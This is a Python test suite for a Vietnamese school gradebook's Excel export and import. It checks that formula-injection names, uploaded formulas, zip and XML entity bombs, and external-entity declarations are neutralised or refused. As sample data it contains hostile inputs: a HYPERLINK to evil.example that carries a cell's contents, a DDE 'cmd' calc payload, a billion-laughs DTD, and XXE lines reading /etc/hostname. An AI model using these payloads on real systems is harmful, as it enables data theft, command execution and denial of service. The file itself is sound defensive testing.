"""Spreadsheets cannot carry an attack to a teacher, nor take one from a teacher's file.

Attacks:
- a name (a student's, a school's, a subject's) beginning with = + - @ tab or CR, or holding
  characters XML cannot carry, written into the grade book template and the class book: it must
  arrive as text, never a formula, and must not break the file;
- an imported cell holding a formula (with or without the last result Excel kept, anywhere: a
  score, a student code, the template's marker; plain, array): refused, naming the cell, and
  nothing written (before, the score it replaced was silently emptied);
- a small .xlsx that unpacks to a huge sheet (400,000 rows, a cell in the last column, parts
  that declare hundreds of megabytes), with a true, a missing or a lying declared dimension:
  refused by name before its rows are read, quickly.
"""

from __future__ import annotations

import io
import re
import time
import zipfile
from xml.sax.saxutils import escape

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet.formula import ArrayFormula

from hocba.gradebook import excel
from hocba.gradebook.models import Assessment, ClassSubject
from hocba.gradebook.services import ValidationFailed
from hocba.organizations.models import ClassGroup

pytestmark = pytest.mark.django_db

TEACHER = "gv.chuvanan.toan.k7"
ACTIVE_STARTS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.fixture
def toan_7a(demo) -> ClassSubject:
    group = ClassGroup.objects.get(
        school__code="25000201", name="7A", school_year__name="2024-2025"
    )
    return ClassSubject.objects.get(class_group=group, subject_code="TOAN")


def teacher():  # type: ignore[no-untyped-def]
    from django.contrib.auth import get_user_model

    return get_user_model().objects.get(username=TEACHER)


def stored(cs: ClassSubject) -> list[tuple[int, object, str]]:
    return sorted(Assessment.objects.filter(class_subject=cs).values_list("pk", "score", "code"))


def clean(name: str) -> str:
    """The name as a spreadsheet can hold it: characters XML cannot carry become U+FFFD."""
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", name)


def sheet_xml(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
        ]


def hostile_names() -> st.SearchStrategy[str]:
    """Names that start like a formula, then anything a name can hold in the database (NUL is
    refused by PostgreSQL and a lone surrogate by both databases' text encodings, so no stored
    name carries either; naming a character to exclude drops Hypothesis's default exclusion of
    surrogates, hence the category)."""
    return st.builds(
        lambda start, rest: start + rest,
        st.sampled_from(ACTIVE_STARTS),
        st.sampled_from(
            ['HYPERLINK("http://evil.example/?"&B7,"Xem điểm")', "cmd|' /C calc'!A0", "1+1",
             "SUM(1;2)", "Nguyễn Văn A"]
        )
        | st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"),
                  min_size=1, max_size=40),
    )  # fmt: skip


# --- out ----------------------------------------------------------------------------------


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(name=hostile_names())
def test_a_hostile_student_name_is_exported_as_text(toan_7a, name):
    student = toan_7a.class_group.enrolments.order_by("student__full_name").first().student
    student.full_name = name
    student.save(update_fields=["full_name"])
    for content in (excel.template(toan_7a), excel.export_class_book(toan_7a.class_group)):
        for xml in sheet_xml(content):
            assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
        book = load_workbook(io.BytesIO(content))  # the file opens
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
        named = [c for c in cells if c.value == clean(name)]
        assert named, "the name is in the file, as written"
        assert all(c.data_type == "s" for c in named)
        assert not any(c.data_type == "f" for c in cells)


def test_hostile_school_and_subject_names_are_text_too(toan_7a, login):
    school = toan_7a.class_group.school
    school.name = '=HYPERLINK("http://evil.example","Mở")'
    school.save(update_fields=["name"])
    ClassSubject.objects.filter(pk=toan_7a.pk).update(name="@SUM(1+1)")
    response = login("gvcn.chuvanan.7a").get(
        f"/gradebook/classes/{toan_7a.class_group.pk}/export.xlsx"
    )
    assert response.status_code == 200
    template = login(TEACHER).get(f"/gradebook/subjects/{toan_7a.pk}/template.xlsx")
    for content in (response.content, template.content):
        assert all("<f>" not in xml for xml in sheet_xml(content))


# --- in: formulas ---------------------------------------------------------------------------


def edited(content: bytes, changes: dict[str, object]) -> bytes:
    book = load_workbook(io.BytesIO(content))
    for ref, value in changes.items():
        book.active[ref] = value
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def with_cached_result(content: bytes, ref: str, result: str) -> bytes:
    """What Excel saves: the formula and its last result (<v>) side by side."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = data.decode()
                text = re.sub(
                    rf'(<c r="{ref}"[^>]*>)(<f>.*?</f>)(<v>[^<]*</v>|<v */>)?',
                    lambda m: f"{m.group(1)}{m.group(2)}<v>{result}</v>",
                    text,
                )
                data = text.encode()
            target.writestr(item, data)
    return out.getvalue()


def refused(cs: ClassSubject, content: bytes) -> list[str]:
    before = stored(cs)
    with pytest.raises(ValidationFailed) as failed:
        excel.import_workbook(teacher(), cs, content)
    assert stored(cs) == before  # nothing written
    return failed.value.errors


def test_a_formula_replacing_a_score_is_refused_by_name_not_emptied(toan_7a):
    content = excel.template(toan_7a)
    assert load_workbook(io.BytesIO(content)).active["D7"].value not in (None, "")
    errors = refused(toan_7a, edited(content, {"D7": "=5+4"}))
    assert len(errors) == 1
    message = errors[0]
    assert "“So diem”" in message and "ô D7" in message and "cột “HK I TX1”" in message
    assert "=5+4" in message and "công thức" in message


def test_a_formula_with_the_result_excel_kept_is_refused(toan_7a):
    content = edited(excel.template(toan_7a), {"E8": "=3*3"})
    errors = refused(toan_7a, with_cached_result(content, "E8", "9"))
    assert any("ô E8" in e and "=3*3" in e for e in errors)


def test_an_array_formula_is_refused(toan_7a):
    content = edited(excel.template(toan_7a), {"D9": ArrayFormula("D9:D9", "=MAX(7,8)")})
    errors = refused(toan_7a, content)
    assert any("ô D9" in e and "MAX(7,8)" in e for e in errors)


@settings(
    max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    column=st.integers(min_value=2, max_value=12),
    row=st.integers(min_value=excel.FIRST_ROW, max_value=excel.FIRST_ROW + 8),
    formula=st.sampled_from(["=1", "=A1", '=HYPERLINK("x")', "=NOW()", '=B7&""']),
)
def test_a_formula_anywhere_in_the_rows_read_is_named(toan_7a, column, row, formula):
    from openpyxl.utils import get_column_letter

    ref = f"{get_column_letter(column)}{row}"
    errors = refused(toan_7a, edited(excel.template(toan_7a), {ref: formula}))
    assert any(f"ô {ref}" in e and formula in e for e in errors)


def test_a_formula_in_the_marker_cell_is_refused(toan_7a):
    marker = load_workbook(io.BytesIO(excel.template(toan_7a))).active["A5"].value
    errors = refused(toan_7a, edited(excel.template(toan_7a), {"A5": f'="{marker}"'}))
    assert len(errors) == 1 and "ô A5" in errors[0] and "công thức" in errors[0]


def test_the_import_page_names_the_formula_cell(toan_7a, login):
    content = edited(excel.template(toan_7a), {"D7": "=10"})
    upload = io.BytesIO(content)
    upload.name = "so-diem.xlsx"
    before = stored(toan_7a)
    page = login(TEACHER).post(
        f"/gradebook/subjects/{toan_7a.pk}/import/", {"file": upload}, follow=True
    )
    assert "ô D7" in page.content.decode() and "công thức" in page.content.decode()
    assert stored(toan_7a) == before


# --- in: sizes ------------------------------------------------------------------------------


def crafted(marker: str, body_rows: str, dimension: str | None) -> bytes:
    """A real workbook whose first sheet is replaced by a hand-made one (the template's marker
    in A5, so that only the limits can stop it)."""
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"{dim}<sheetData>"
        f'<row r="5"><c r="A5" t="inlineStr"><is><t>{escape(marker)}</t></is></c></row>'
        f"{body_rows}</sheetData></worksheet>"
    )
    base = ClientlessTemplate.content
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            data = (
                sheet.encode() if item.filename == "xl/worksheets/sheet1.xml" else source.read(item)
            )
            target.writestr(item.filename, data, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


class ClientlessTemplate:
    content = b""


@pytest.fixture
def template_of(toan_7a):  # type: ignore[no-untyped-def]
    ClientlessTemplate.content = excel.template(toan_7a)
    marker = load_workbook(io.BytesIO(ClientlessTemplate.content)).active["A5"].value
    return toan_7a, marker


# rows and cells without numbers are numbered in order, as spreadsheet programs do
def short_rows(count: int) -> str:
    return "<row><c><v>1</v></c></row>" * count


def quickly_refused(cs: ClassSubject, content: bytes) -> str:
    started = time.monotonic()
    errors = refused(cs, content)
    elapsed = time.monotonic() - started
    assert elapsed < 5, f"took {elapsed:.1f} s"
    assert len(errors) == 1
    return errors[0]


@pytest.mark.parametrize("dimension", [None, "A1:A400006", "A1:D60"])
def test_sixty_kilobytes_of_four_hundred_thousand_rows_are_refused_unread(template_of, dimension):
    cs, marker = template_of
    content = crafted(marker, short_rows(400_000), dimension)
    assert len(content) < 100_000
    message = quickly_refused(cs, content)
    assert "xl/worksheets/sheet1.xml" in message and "tối đa 2048 kB" in message


def test_a_row_of_a_million_cells_is_refused_unread(template_of):
    cs, marker = template_of
    content = crafted(marker, "<row>" + "<c><v>1</v></c>" * 1_000_000 + "</row>", None)
    assert len(content) < 100_000
    assert "tối đa 2048 kB" in quickly_refused(cs, content)


def test_a_declared_dimension_past_the_limits_is_refused_before_any_row_is_read(template_of):
    cs, marker = template_of
    message = quickly_refused(cs, crafted(marker, short_rows(3), "A1:B400006"))
    assert "A1:B400006" in message and "400006 dòng" in message and "tối đa 20000 dòng" in message


@pytest.mark.parametrize("dimension", [None, "A1:D60"], ids=["undeclared", "lying"])
def test_rows_past_the_limit_are_refused_at_the_limit(template_of, dimension):
    cs, marker = template_of
    message = quickly_refused(cs, crafted(marker, short_rows(25_000), dimension))
    assert "dòng 20001" in message and "tối đa 20000 dòng" in message


def test_a_cell_in_the_last_column_is_refused(template_of):
    cs, marker = template_of
    row = '<row r="7"><c r="XFD7"><v>1</v></c></row>'
    assert "XFD7" in quickly_refused(cs, crafted(marker, row, None))
    assert "tối đa 300 cột" in quickly_refused(cs, crafted(marker, row, None))
    assert "16384 cột" in quickly_refused(cs, crafted(marker, row, "A1:XFD7"))


def test_parts_declaring_hundreds_of_megabytes_are_refused_unread(template_of):
    cs, marker = template_of
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(crafted(marker, "", None))) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            target.writestr(item.filename, source.read(item), compress_type=zipfile.ZIP_DEFLATED)
        for n in range(160):  # each under the limit of one part, 300 MB in all
            target.writestr(f"xl/media/padding{n}.bin", b"\0" * (1900 * 1024))
    content = out.getvalue()
    assert len(content) < 1_000_000
    message = quickly_refused(cs, content)
    assert "bung ra quá lớn" in message


def test_the_upload_page_refuses_the_inflated_workbook_by_name(template_of, login):
    cs, marker = template_of
    upload = io.BytesIO(crafted(marker, short_rows(25_000), None))
    upload.name = "so-diem.xlsx"
    page = login(TEACHER).post(
        f"/gradebook/subjects/{cs.pk}/import/", {"file": upload}, follow=True
    )
    assert "tối đa 20000 dòng" in page.content.decode()


# --- in: every part, whatever its name, however it is stored ---------------------------------

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHARED_STRINGS_TYPE = (
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
)


def parts_of(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {item.filename: archive.read(item) for item in archive.infolist()}


def packed(parts: dict[str, bytes], methods: dict[str, int] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            method = (methods or {}).get(name, zipfile.ZIP_DEFLATED)
            target.writestr(name, data, compress_type=method)
    return out.getvalue()


def renamed(parts: dict[str, bytes], old: str, new: str) -> dict[str, bytes]:
    """The part moved to another name, with the relationships and content types that point to
    it rewritten: what a reader follows, not the name, says what the part is."""
    moved = {}
    for name, data in parts.items():
        if name.endswith(".rels") or name == "[Content_Types].xml":
            data = data.replace(f"/{old}".encode(), f"/{new}".encode())
        moved[new if name == old else name] = data
    return moved


def with_shared_strings(parts: dict[str, bytes], name: str, table: bytes) -> dict[str, bytes]:
    types = parts["[Content_Types].xml"].replace(
        b"</Types>",
        f'<Override PartName="/{name}" ContentType="{SHARED_STRINGS_TYPE}"/></Types>'.encode(),
    )
    return {**parts, "[Content_Types].xml": types, name: table}


def sheet_with(marker: str, body_rows: str, prolog: str = "") -> bytes:
    return (
        f'{prolog}<worksheet xmlns="{MAIN}"><sheetData>'
        f'<row r="5"><c r="A5" t="inlineStr"><is><t>{escape(marker)}</t></is></c></row>'
        f"{body_rows}</sheetData></worksheet>"
    ).encode()


def answered_quickly(cs: ClassSubject, content: bytes) -> list[str]:
    """Whatever the answer (refused or imported), it comes within seconds and changes nothing;
    the refusal's messages, or [] when the file was imported."""
    before = stored(cs)
    started = time.monotonic()
    try:
        excel.import_workbook(teacher(), cs, content)
        errors: list[str] = []
    except ValidationFailed as failed:
        errors = failed.errors
    elapsed = time.monotonic() - started
    assert elapsed < 5, f"took {elapsed:.1f} s"
    assert stored(cs) == before
    return errors


@pytest.mark.parametrize(
    "name",
    ["xl/worksheets/sheet1.bin", "xl/worksheets/sheet1", "xl/data.dat", "xl/sheet1.XML.txt"],
)
def test_a_sheet_under_another_name_is_held_to_the_part_limit(template_of, name):
    """One row of a million cells and no declared dimension, in a part whose name does not end
    in .xml: 8 seconds and 780 MB before, refused unread now."""
    cs, marker = template_of
    sheet = sheet_with(marker, "<row>" + "<c><v>1</v></c>" * 1_000_000 + "</row>")
    parts = renamed(parts_of(ClientlessTemplate.content), "xl/worksheets/sheet1.xml", name)
    content = packed({**parts, name: sheet})
    assert len(content) < 100_000
    message = quickly_refused(cs, content)
    assert f"“{name}”" in message and "tối đa 2048 kB" in message


def test_shared_strings_under_another_name_are_held_to_the_part_limit(template_of):
    cs, marker = template_of
    table = (
        f'<sst xmlns="{MAIN}">' + "".join(f"<si><t>chuỗi {n}</t></si>" for n in range(200_000))
    ).encode() + b"</sst>"
    assert len(table) > 4 * 1024 * 1024
    parts = with_shared_strings(parts_of(crafted(marker, "", None)), "xl/strings.bin", table)
    message = quickly_refused(cs, packed(parts))
    assert "“xl/strings.bin”" in message and "tối đa 2048 kB" in message


@pytest.mark.parametrize("name", ["xl/sharedStrings.xml", "xl/strings.bin"])
def test_shared_strings_are_counted_before_the_sheet_is_read(template_of, name):
    """Within the part limit, 100,000 strings: every one would be kept in memory."""
    cs, marker = template_of
    table = f'<sst xmlns="{MAIN}">'.encode() + b"<si><t>a</t></si>" * 100_000 + b"</sst>"
    assert len(table) < 2 * 1024 * 1024
    parts = with_shared_strings(parts_of(crafted(marker, "", None)), name, table)
    message = quickly_refused(cs, packed(parts))
    assert f"“{name}”" in message and "hơn 20000 chuỗi" in message


def patched(content: bytes, name: str, *, method: int | None = None, flags: int = 0) -> bytes:
    """The file with one entry's compression method or flag bits rewritten in its local header
    and in the central directory (what zip tools write for AES or password-protected
    entries)."""
    data = bytearray(content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        local = archive.getinfo(name).header_offset
    central = data.find(b"PK\x01\x02")
    while central != -1:
        size = int.from_bytes(data[central + 28 : central + 30], "little")
        if data[central + 46 : central + 46 + size] == name.encode():
            break
        central = data.find(b"PK\x01\x02", central + 46)
    for at, flag_at in ((local + 8, local + 6), (central + 10, central + 8)):
        if method is not None:
            data[at : at + 2] = method.to_bytes(2, "little")
        old = int.from_bytes(data[flag_at : flag_at + 2], "little")
        data[flag_at : flag_at + 2] = (old | flags).to_bytes(2, "little")
    return bytes(data)


STORAGE = {
    "bzip2": (lambda c: packed(parts_of(c), {"xl/worksheets/sheet1.xml": zipfile.ZIP_BZIP2}),
              "phương pháp số 12"),
    "lzma": (lambda c: packed(parts_of(c), {"xl/worksheets/sheet1.xml": zipfile.ZIP_LZMA}),
             "phương pháp số 14"),
    "aes": (lambda c: patched(c, "xl/worksheets/sheet1.xml", method=99), "phương pháp số 99"),
    "unknown": (lambda c: patched(c, "xl/styles.xml", method=77), "phương pháp số 77"),
    "password": (lambda c: patched(c, "xl/worksheets/sheet1.xml", flags=0x1),
                 "mã hóa bằng mật khẩu"),
    "strong encryption": (lambda c: patched(c, "xl/workbook.xml", flags=0x41),
                          "mã hóa bằng mật khẩu"),
}  # fmt: skip


@pytest.mark.parametrize("storage", list(STORAGE))
def test_a_part_stored_another_way_is_refused_naming_why(template_of, storage):
    cs, _marker = template_of
    make, why = STORAGE[storage]
    message = quickly_refused(cs, make(ClientlessTemplate.content))
    assert "không phải bảng tính Excel" in message and why in message


@pytest.mark.parametrize("storage", ["aes", "password", "strong encryption"])
def test_the_upload_page_answers_a_part_it_cannot_unpack_with_the_reason(
    template_of, login, storage
):
    """Before: HTTP 500 (NotImplementedError, RuntimeError from the zip reader)."""
    cs, _marker = template_of
    make, why = STORAGE[storage]
    upload = io.BytesIO(make(ClientlessTemplate.content))
    upload.name = "so-diem.xlsx"
    before = stored(cs)
    page = login(TEACHER).post(
        f"/gradebook/subjects/{cs.pk}/import/", {"file": upload}, follow=True
    )
    assert page.status_code == 200
    assert why in page.content.decode()
    assert stored(cs) == before


def test_an_old_excel_file_or_one_with_a_password_is_refused_naming_why(toan_7a):
    compound = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 4000
    message = refused(toan_7a, compound)[0]
    assert ".xls" in message and "mật khẩu" in message


BOMB = (
    '<!DOCTYPE worksheet [<!ENTITY a "' + "x" * 1000 + '">'
    + "".join(f'<!ENTITY {b} "{("&" + a + ";") * 10}">'
              for a, b in zip("abcdef", "bcdefg", strict=True))
    + "]>"
)  # fmt: skip


@pytest.mark.parametrize(
    "where, prolog, text",
    [
        ("sheet", BOMB, "&g;"),
        ("sheet", '<!DOCTYPE worksheet SYSTEM "file:///etc/hostname">', "x"),
        ("sheet", '<!DOCTYPE worksheet [<!ENTITY e SYSTEM "file:///etc/hostname">]>', "&e;"),
        ("sheet", "<!DOCTYPE worksheet>", "x"),
        ("strings", BOMB.replace("worksheet", "sst"), "&g;"),
        ("strings", '<!DOCTYPE sst [<!ENTITY e SYSTEM "file:///etc/hostname">]>', "&e;"),
    ],
    ids=["entity bomb", "external dtd", "external entity", "bare doctype", "strings bomb",
         "strings external entity"],
)  # fmt: skip
def test_a_part_declaring_a_dtd_is_refused_and_nothing_is_expanded(
    template_of, where, prolog, text
):
    cs, marker = template_of
    parts = parts_of(crafted(marker, "", None))
    if where == "sheet":
        body = f'<row r="7"><c r="C7" t="inlineStr"><is><t>{text}</t></is></c></row>'
        parts["xl/worksheets/sheet1.xml"] = sheet_with(marker, body, prolog)
    else:
        table = f'{prolog}<sst xmlns="{MAIN}"><si><t>{text}</t></si></sst>'.encode()
        parts = with_shared_strings(parts, "xl/sharedStrings.xml", table)
        body = '<row r="7"><c r="C7" t="s"><v>0</v></c></row>'
        parts["xl/worksheets/sheet1.xml"] = sheet_with(marker, body)
    message = quickly_refused(cs, packed(parts))
    assert "DTD" in message


def test_a_long_formula_shared_by_thousands_of_cells_is_refused_at_once(template_of):
    """One formula of thousands of references written once and used by 15,000 cells: each
    use was translated to its cell (minutes); now each cell is named, with where the formula
    is written, and the message does not repeat the whole formula."""
    cs, marker = template_of
    formula = "+".join(f"A{n}" for n in range(1, 3000))
    rows = [f'<row r="7"><c r="D7"><f t="shared" si="0" ref="D7:D15007">{formula}</f></c></row>']
    rows += [f'<row r="{r}"><c r="D{r}"><f t="shared" si="0"/></c></row>' for r in range(8, 15007)]
    content = crafted(marker, "".join(rows), None)
    errors = answered_quickly(cs, content)
    assert len(errors) == 15000
    assert "ô D7" in errors[0] and "A1+A2+A3" in errors[0]
    assert "ô D9000" in errors[8993] and "dùng chung, viết ở ô D7" in errors[8993]
    assert all(len(error) < 400 for error in errors)


def workbook_listing(parts: dict[str, bytes], sheets: int) -> bytes:
    entries = "".join(f'<sheet name="S{n}" sheetId="{n + 1}" r:id="rId1"/>' for n in range(sheets))
    return (
        f'<workbook xmlns="{MAIN}" xmlns:r="{RELS}"><sheets>{entries}</sheets></workbook>'
    ).encode()


def test_a_workbook_listing_tens_of_thousands_of_sheets_is_refused_at_once(template_of):
    """Each sheet's name was compared with all the others: the time grew with the square."""
    cs, marker = template_of
    parts = parts_of(crafted(marker, "", None))
    parts["xl/workbook.xml"] = workbook_listing(parts, 40_000)
    message = quickly_refused(cs, packed(parts))
    assert "40000 trang" in message and "tối đa 100" in message


def test_a_hundred_sheets_sharing_one_large_part_are_read_once(template_of):
    """Every sheet was measured when the workbook was opened, each time parsing the part up
    to its rows: a hundred sheets on one part of 2 MB parsed 200 MB."""
    cs, marker = template_of
    parts = parts_of(crafted(marker, "", None))
    columns = "".join(f'<col min="{n}" max="{n}" width="9"/>' for n in range(1, 36_000))
    parts["xl/worksheets/sheet1.xml"] = sheet_with(marker, "").replace(
        b"<sheetData>", f"<cols>{columns}</cols><sheetData>".encode()
    )
    assert len(parts["xl/worksheets/sheet1.xml"]) < 2 * 1024 * 1024
    parts["xl/workbook.xml"] = workbook_listing(parts, 100)
    answered_quickly(cs, packed(parts))


def test_external_links_are_not_followed(template_of):
    """A workbook naming the same large external link part hundreds of times: each was parsed
    when the workbook was opened."""
    cs, marker = template_of
    parts = parts_of(crafted(marker, "", None))
    link = (
        f'<externalLink xmlns="{MAIN}"><externalBook xmlns:r="{RELS}" r:id="rId1"><sheetNames>'
        + '<sheetName val="x"/>' * 60_000
        + "</sheetNames></externalBook></externalLink>"
    ).encode()
    references = "".join(f'<externalReference r:id="rIdL{n}"/>' for n in range(300))
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"</workbook>",
        f'<externalReferences xmlns:r="{RELS}">{references}</externalReferences>'
        "</workbook>".encode(),
    )
    relations = "".join(
        f'<Relationship Id="rIdL{n}" Target="/xl/externalLinks/externalLink1.xml" '
        f'Type="{RELS}/externalLink"/>'
        for n in range(300)
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", relations.encode() + b"</Relationships>"
    )
    parts["xl/externalLinks/externalLink1.xml"] = link
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Target="file:///C:/diem.xlsx" TargetMode="External" '
        f'Type="{RELS}/externalLinkPath"/></Relationships>'
    ).encode()
    answered_quickly(cs, packed(parts))
